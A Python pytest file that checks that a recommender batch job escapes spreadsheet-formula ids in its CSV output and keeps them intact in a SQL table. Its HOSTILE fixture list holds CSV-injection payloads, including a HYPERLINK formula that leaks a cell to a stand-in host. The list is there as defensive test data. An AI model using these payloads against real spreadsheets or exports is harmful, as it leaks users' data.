"""The batch job's CSV files (safe to open in a spreadsheet) and its SQL table."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from helpers import RandomFactors

from recommend.batch import BATCH_COLUMNS, MANIFEST, run_batch
from recommend.data.dataset import Dataset
from recommend.models import ALS

#: Ids a spreadsheet would run as formulas (or that start like an escaped cell).
HOSTILE = [
    '=HYPERLINK("http://example.com/?leak="&A1,"x")',
    "+1+2",
    "-3+4",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=already",
]


def _read(path: Path) -> pd.DataFrame:
    return pd.read_parquet(path).reset_index(drop=True)


def _cells(files: list[Path]) -> list[list[str]]:
    rows: list[list[str]] = []
    for file in files:
        with open(file, encoding="utf-8", newline="") as fh:
            rows.extend(csv.reader(fh))
    return rows


@pytest.fixture(scope="module")
def hostile_model() -> ALS:
    """Members and courses whose ids start like spreadsheet formulas."""
    rng = np.random.default_rng(0)
    members = np.array([*HOSTILE, *(f"m{i}" for i in range(40))], dtype=object)
    courses = np.array([*(f"={i}+{i}" for i in range(5)), *(f"c{i}" for i in range(25))])
    n = 1500
    events = pd.DataFrame(
        {
            "member_id": members[rng.integers(0, members.size, n)],
            "course_id": courses[rng.integers(0, courses.size, n)],
            "event": "view",
            "timestamp": pd.Timestamp("2024-01-01"),
        }
    )
    return ALS(n_factors=4, iterations=2).fit(Dataset.from_frames(events))


def test_csv_output_cannot_run_as_spreadsheet_formulas(hostile_model: ALS, tmp_path: Path) -> None:
    """No text cell of the CSV files starts like a formula; every id is there escaped;
    scores stay numbers."""
    members = [*hostile_model.member_ids_.external_ids.tolist(), "=unknown()", "\t=tab()"]
    args = {"n": 5, "members": members, "chunk_size": 20, "progress": False}
    parquet = _read(run_batch(hostile_model, tmp_path / "pq", **args).path)
    result = run_batch(hostile_model, tmp_path / "csv", format="csv", **args)
    rows = _cells(result.files)
    header, cells = rows[0], [row for row in rows[1:] if row != rows[0]]
    assert header == list(BATCH_COLUMNS) and len(cells) == len(parquet)
    text = [i for i, name in enumerate(header) if name not in ("score", "rank")]
    starts = [row[i][:1] for row in cells for i in text]
    assert not set(starts) & set("=+-@\t\r＝")
    expected = [("'" + v if v[:1] in "=+-@\t\r＝'" else v) for v in parquet["member_id"]]
    assert [row[0] for row in cells] == expected
    assert any(row[1].startswith("'=") for row in cells)
    np.testing.assert_allclose([float(row[2]) for row in cells], parquet["score"], rtol=1e-5)


def test_sql_load_of_csv_output_holds_the_ids_as_they_are(
    hostile_model: ALS, tmp_path: Path
) -> None:
    import sqlalchemy as sa

    members = hostile_model.member_ids_.external_ids.tolist()
    url = f"sqlite:///{tmp_path / 'menus.db'}"
    args = {"n": 3, "members": members, "progress": False}
    parquet = _read(run_batch(hostile_model, tmp_path / "pq", **args).path)
    run_batch(hostile_model, tmp_path / "csv", format="csv", sql=url, table="menus", **args)
    engine = sa.create_engine(url)
    with engine.connect() as conn:
        table = pd.read_sql("SELECT member_id, course_id, rank FROM menus", conn)
    engine.dispose()
    assert table["member_id"].tolist() == parquet["member_id"].tolist()
    assert table["course_id"].tolist() == parquet["course_id"].tolist()
    formulas = [m for m in members if m[:1] in "=+-@'＝"]
    assert len(formulas) >= 5 and set(formulas) <= set(table["member_id"])


def test_csv_format_and_members_file(model: RandomFactors, tmp_path: Path) -> None:
    members = tmp_path / "members.txt"
    members.write_text("m00003\nm00001\nm00003\nnew-9\n", encoding="utf-8")
    result = run_batch(model, tmp_path / "out", n=3, members=members, format="csv", progress=False)
    got = pd.read_csv(result.files[0], keep_default_na=False)
    assert got["member_id"].drop_duplicates().tolist() == ["m00003", "m00001", "new-9"]
    assert result.members == 3 and list(got.columns) == list(BATCH_COLUMNS)


def test_sql_table_is_replaced_not_appended(model: RandomFactors, tmp_path: Path) -> None:
    import sqlalchemy as sa

    url = f"sqlite:///{tmp_path / 'menus.db'}"
    first = run_batch(model, tmp_path / "a", n=3, sql=url, table="menus", progress=False)
    second = run_batch(model, tmp_path / "b", n=2, sql=url, table="menus", progress=False)
    engine = sa.create_engine(url)
    with engine.connect() as conn:
        table = pd.read_sql("SELECT * FROM menus ORDER BY member_id, rank", conn)
    engine.dispose()
    assert first.sql_rows == first.rows and second.sql_rows == len(table) == second.rows
    files = _read(second.path).sort_values(["member_id", "rank"]).reset_index(drop=True)
    assert table["course_id"].tolist() == files["course_id"].tolist()
    assert table["rank"].max() == 2 and set(table.columns) == set(BATCH_COLUMNS)
    manifest = json.loads((second.path / MANIFEST).read_text())
    assert "sqlite" not in json.dumps(manifest)  # the URL (maybe a password) is not kept
